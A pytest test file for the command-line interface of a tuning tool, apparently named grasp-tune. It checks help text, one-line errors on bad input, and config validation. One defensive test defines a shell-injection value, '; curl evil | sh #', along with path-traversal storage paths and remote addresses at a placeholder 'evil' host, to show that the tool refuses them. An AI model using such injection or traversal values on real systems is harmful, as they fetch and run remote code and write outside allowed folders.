"""Bad input is one line on standard error, exit code 2, and nothing has started."""

import json
import os
import re
import subprocess
import sys
from importlib.util import find_spec
from pathlib import Path

import pytest

import grasp_tune
from grasp_tune.config import load_experiment
from tests.cli.conftest import Command

COMMANDS = ("init", "plan", "run", "resume", "watch", "report", "compare")


@pytest.mark.parametrize("name", COMMANDS)
def test_help_explains_each_command_with_an_example(command: Command, name: str) -> None:
    ended = command(name, "--help")
    assert ended.code == 0
    assert f"Example: grasp-tune {name}" in ended.out
    assert not ended.err


def test_help_lists_the_commands_and_the_first_steps(command: Command) -> None:
    ended = command("--help")
    assert ended.code == 0
    for name in COMMANDS:
        assert re.search(rf"^  {name}  ", ended.out, re.MULTILINE)
    assert command("--version").out == f"grasp-tune {grasp_tune.__version__}\n"


@pytest.mark.parametrize(
    ("arguments", "line"),
    [
        (["run", "nothing.yaml", "--out", "o"], "nothing.yaml: got no such file, expected a YAML"),
        (["run", "small.yaml"], "--out: got nothing, expected a folder for the results"),
        (
            ["run", "small.yaml", "--out", "o", "--set", "budgett=5"],
            "--set: budgett: got an unknown key, expected budget, the nearest key",
        ),
        (
            ["run", "small.yaml", "--out", "o", "--set", "budget=0"],
            "--set: budget: got 0, expected >= 1",
        ),
        (
            ["run", "small.yaml", "--out", "rows.npz"],
            "rows.npz, which is a file, expected an empty or new folder",
        ),
        (["run", "small.yaml", "--out", "."], "which holds other files and no config.yaml"),
        (
            ["run", "small.yaml", "--out", "o", "--set", "problem.dataset.path=gone.npz"],
            "gone.npz",
        ),
        (
            ["run", "small.yaml", "--out", "o", "--set", "problem.loss=no_such_module:loss"],
            "problem.loss: got no_such_module:loss, whose module cannot be imported",
        ),
        (
            ["run", "small.yaml", "--out", "o", "--set", "problem.batch_size=41"],
            "data: 40 rows are fewer than one batch of 41; use batch_size <= 40 or more data",
        ),
        (["resume", "o"], "o: got no such folder, expected the folder of a run"),
        (["resume", "."], "a folder without config.yaml, expected the folder of a run"),
        (["watch", "o"], "got no such folder, expected the folder of a run"),
        (["report", "o"], "got no such folder, expected the folder of a run"),
        (
            ["compare", "small.yaml", "--out", "o", "--methods", "adamv"],
            "--methods: got 'adamv', expected some of grasp-promote, grasp-paper",
        ),
        (
            ["compare", "small.yaml", "--out", "o", "--set", "method=deterministic"],
            "problem.batch_size: got 4 with method: deterministic",
        ),
        (["plan", "small.yaml", "--set", "schedule=paper", "--set", "budget=30"], "budget"),
    ],
)
def test_bad_input_is_one_line_before_anything_starts(
    command: Command, place: Path, arguments: list[str], line: str
) -> None:
    before = sorted(place.iterdir())
    ended = command(*arguments)
    assert ended.code == 2
    assert not ended.out
    assert line in ended.err
    assert ended.err.count("\n") == 1
    assert "Traceback" not in ended.err
    assert sorted(place.iterdir()) == before


@pytest.mark.parametrize(
    ("arguments", "unwanted"),
    [
        (["--help"], {"torch", "numpy", "pydantic"}),
        (["init", "first.yaml"], {"torch", "sklearn"}),
        (["plan", "small.yaml", "--grad-norm", "1.3"], {"torch", "ray", "optuna"}),
        (["run", "gone.yaml", "--out", "o"], {"torch", "ray", "optuna"}),
    ],
)
def test_commands_load_no_more_than_they_need(
    place: Path, arguments: list[str], unwanted: set[str]
) -> None:
    code = (
        "import sys; from grasp_tune.cli import main; "
        f"main({arguments!r}); sys.stderr.write(repr(sorted({unwanted!r} & set(sys.modules))))"
    )
    root = str(Path(grasp_tune.__file__).parents[1])
    ended = subprocess.run(
        [sys.executable, "-c", code],
        cwd=place,
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": root},
    )
    assert ended.stderr.splitlines()[-1] == "[]", ended.stderr


def test_options_that_do_not_exist_are_bad_input_too(command: Command, place: Path) -> None:
    ended = command("run", "small.yaml", "--otu", "o")
    assert ended.code == 2
    assert "--otu" in ended.err and not ended.out
    assert command("compare", "small.yaml").code == 2


def test_init_writes_a_config_that_loads_and_replaces_nothing(
    command: Command, place: Path
) -> None:
    ended = command("init", "mine.yaml")
    assert (ended.code, ended.out) == (0, "mine.yaml\n")
    assert "grasp-tune plan mine.yaml" in ended.err
    assert load_experiment("mine.yaml", environment={}).problem.dataset.name == (
        "digits" if find_spec("sklearn") else "spirals"
    )
    again = command("init", "mine.yaml")
    assert (again.code, again.out) == (2, "")
    assert "mine.yaml: got a file that exists, expected a new name, or --force" in again.err
    assert command("init", "mine.yaml", "--force").code == 0
    assert command("init", "no/such/place.yaml").code == 2


def test_init_prints_the_schema_for_editors(command: Command, place: Path) -> None:
    schema = json.loads(command("init", "--schema").out)
    assert {"problem", "budget", "include"} <= set(schema["properties"])
    assert not (place / "experiment.yaml").exists()


SHELL = "; curl evil | sh #"


@pytest.mark.parametrize(
    ("backend", "line"),
    [
        (f"{{kind: optuna, storage: ../.profile, study: '{SHELL}'}}", "backend.storage: got "),
        ("{kind: optuna, storage: 'sqlite:///../x.db'}", "backend.storage: got "),
        ("{kind: optuna, storage: 'sqlite:///OUT/%2e%2e/%2e%2e/x.db'}", "backend.storage: got "),
        ("{kind: optuna, storage: 'sqlite:///OUT/x.db?uri=true'}", "backend.storage: got "),
        ("{kind: optuna, storage: 'SQLite:///OUT/x.db'}", "backend.storage: got "),
        ("{kind: ray, storage: 'file:///somewhere'}", "backend.storage: got "),
        (
            "{kind: optuna, storage: 'postgresql://me:pw@evil/db'}",
            "//me:***@evil/db, by which a run",
        ),
        (
            "{kind: ray, storage: /somewhere}",
            "backend.storage: got /somewhere, by which a run writes or",
        ),
        ("{kind: ray, address: 'ray://evil:1'}", "backend.address: got ray://evil:1, by which"),
        ('{kind: optuna, study: "a\\nb"}', "backend.study: got 'a\\nb', expected text without"),
    ],
)
def test_a_config_writes_only_below_out_and_connects_nowhere(
    command: Command, place: Path, backend: str, line: str
) -> None:
    folder = place / "here"
    folder.mkdir()
    text = (place / "small.yaml").read_text().replace("rows.npz", str(place / "rows.npz"))
    backend = backend.replace("OUT", str(folder / "o"))
    (folder / "stranger.yaml").write_text(f"{text}backend: {backend}\n")
    before = sorted(place.rglob("*"))
    ended = command("run", folder / "stranger.yaml", "--out", folder / "o")
    assert ended.code == 2
    assert line in ended.err and ended.err.count("\n") == 1
    if "expected text" not in line:
        assert "or --allow-outside" in ended.err
    assert sorted(place.rglob("*")) == before


def test_other_keys_that_reach_out_need_the_flag_too(command: Command, place: Path) -> None:
    (place / "out.yaml").write_text((place / "small.yaml").read_text() + "out: ../elsewhere\n")
    assert "out: got " in command("run", "out.yaml").err
    mnist = "problem: {dataset: {name: mnist, download: true}}"
    (place / "mnist.yaml").write_text(mnist)
    for words in (["plan", "mnist.yaml"], ["run", "mnist.yaml", "--out", "o"]):
        ended = command(*words)
        assert ended.code == 2
        assert "problem.dataset.download: got true, by which a run writes or" in ended.err
    assert not (place / "o").exists()


def test_what_is_allowed_or_typed_is_done(command: Command, place: Path) -> None:
    pytest.importorskip("optuna")
    (place / "study.yaml").write_text(
        (place / "small.yaml").read_text()
        + f"backend: {{kind: optuna, storage: ../study.log, study: '{SHELL}'}}\n"
    )
    (place / "here").mkdir()
    run = ["run", "study.yaml", "-q", "--set", "budget=60", "--out"]
    assert command(*run, "a", "--allow-outside").code == 0
    assert (place.parent / "study.log").exists()
    (place.parent / "study.log").unlink()
    # The user's own words need no flag.
    assert command(*run, "b", "--set", "backend.storage=mine.log").code == 0
    assert (place / "mine.log").exists()
    assert command(*run, "c", "--set", "backend={kind: optuna, storage: c/study.log}").code == 0


def test_names_in_data_reach_a_terminal_without_control_characters(
    command: Command, place: Path
) -> None:
    rows = "".join(f"{'ab'[k % 2]},{k % 3},{k % 2}\n" for k in range(20))
    (place / "rows.csv").write_text("\x1b[31mred\x07,a,y\n" + rows)
    data = ["--set", "problem.dataset.name=csv", "--set", "problem.dataset.path=rows.csv"]
    ended = command("run", "small.yaml", "--out", "r", *data)
    assert ended.code == 0 and "note: Columns of words" in ended.err
    assert "\x1b" not in ended.err + ended.out and "\x07" not in ended.err
